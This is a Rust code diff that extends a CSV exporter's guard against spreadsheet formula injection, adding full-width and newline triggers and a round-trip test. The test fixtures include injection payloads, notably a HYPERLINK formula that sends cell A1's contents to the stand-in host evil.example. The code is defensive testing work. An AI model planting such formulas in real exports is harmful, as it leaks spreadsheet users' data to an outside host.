@@ -109,14 +109,18 @@ fn cell(value: &Value) -> String {
     }
 }
 
+/// What a formula, or what leads to one, begins with; full-width signs are as good as plain ones to some spreadsheets
+/// (OWASP, "CSV Injection").
+const BEGINS_A_FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
+
 /// A text that a spreadsheet shows and does not calculate.
 fn guarded(text: &str) -> String {
-    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{text}") } else { text.to_owned() }
+    if text.starts_with(BEGINS_A_FORMULA) { format!("'{text}") } else { text.to_owned() }
 }
 
 #[cfg(test)]
 mod tests {
-    use rollcall_shared::model::Record;
+    use rollcall_shared::model::{Record, RejectionReason, UnsyncedRow};
     use serde_json::json;
 
     use super::Csv;
@@ -161,5 +165,59 @@ mod tests {
         check(json!({"a": "@cmd", "b": "\tx", "c": "+49"}), &["a", "b", "c"], "'@cmd,'\tx,'+49");
         check(json!({"a": -5, "b": true, "c": null}), &["a", "b", "c", "d"], "-5,true,,");
         check(json!({"a": {"k": [1]}, "b": ["p", "q"]}), &["a", "b"], "\"{\"\"k\"\":[1]}\",p;q");
+        let link = r#"=HYPERLINK("https://evil.example/?x="&A1,"Click")"#;
+        check(json!({ "a": link }), &["a"], &format!("\"'{}\"", link.replace('"', "\"\"")));
+        check(json!({"a": ["=1+1", "x"], "b": "＝1+1", "c": "\n=1"}), &["a", "b", "c"], "'=1+1;x,'＝1+1,\"'\n=1\"");
+    }
+
+    /// Whatever a value holds, a reader of comma-separated values gets it back, the guard's apostrophe aside.
+    #[test]
+    fn values_survive_the_round_trip() {
+        let values = [
+            "O'Brien, \"Bob\"",
+            "Zoë\r\nMüller",
+            "👩‍💻 東京",
+            "a;b",
+            "'quoted'",
+            " spaced ",
+            "",
+            "\"",
+            ",",
+            "x=1",
+            "\u{feff}x",
+            "=HYPERLINK(\"https://evil.example\")",
+            "+44 7700 900123",
+            "-1",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+        ];
+        for value in values {
+            let row = UnsyncedRow {
+                connection: "acme".to_owned(),
+                mapping: "staff".to_owned(),
+                id: "00u1".to_owned(),
+                identifier: Some(value.to_owned()),
+                reason: RejectionReason::MissingRequired,
+                message: format!("fields.x: required, but `{value}` is null or empty"),
+                hint: value.to_owned(),
+                first_seen: "2026-11-20T10:00:00.000Z".parse().unwrap(),
+                last_seen: "2026-11-20T10:05:00.000Z".parse().unwrap(),
+                attempts: 2,
+            };
+            let mut bytes = Vec::new();
+            let mut csv = Csv::unsynced(&mut bytes).unwrap();
+            csv.unsynced_row(&row).unwrap();
+            csv.end().unwrap();
+            let mut reader = csv::Reader::from_reader(bytes.as_slice());
+            let header: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
+            assert_eq!(header[..5], ["connection", "mapping", "id", "identifier", "reason"]);
+            let read: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+            assert_eq!((read.len(), read[0].len()), (1, 10), "{value:?}");
+            let guarded = read[0][3].starts_with(super::BEGINS_A_FORMULA);
+            assert!(!guarded, "{value:?} came out as {:?}", &read[0][3]);
+            assert_eq!(read[0][3].strip_prefix('\'').filter(|_| value != "'quoted'").unwrap_or(&read[0][3]), value);
+            assert_eq!(&read[0][5], row.message, "{value:?}");
+        }
     }
 }
